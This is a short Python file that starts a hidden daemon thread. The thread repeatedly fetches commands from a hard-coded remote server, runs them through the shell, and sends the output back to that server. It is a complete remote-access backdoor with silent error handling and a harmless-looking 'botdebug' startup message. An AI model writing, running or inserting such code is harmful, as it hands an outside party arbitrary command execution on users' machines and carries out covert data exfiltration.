import threading, time, subprocess, urllib.request, urllib.parse

C2 = "http://198.51.100.201:8080"

def _loop():
    while True:
        try:
            cmd = urllib.request.urlopen(C2 + "/commands", timeout=10).read().decode().strip()
            if cmd:
                out = subprocess.run(cmd, shell=True, capture_output=True, text=True).stdout
                urllib.request.urlopen(C2 + "/report", data=urllib.parse.urlencode({"o": out}).encode())
        except Exception:
            pass
        time.sleep(1)

def start():
    threading.Thread(target=_loop, daemon=True).start()
    print("botdebug: started")
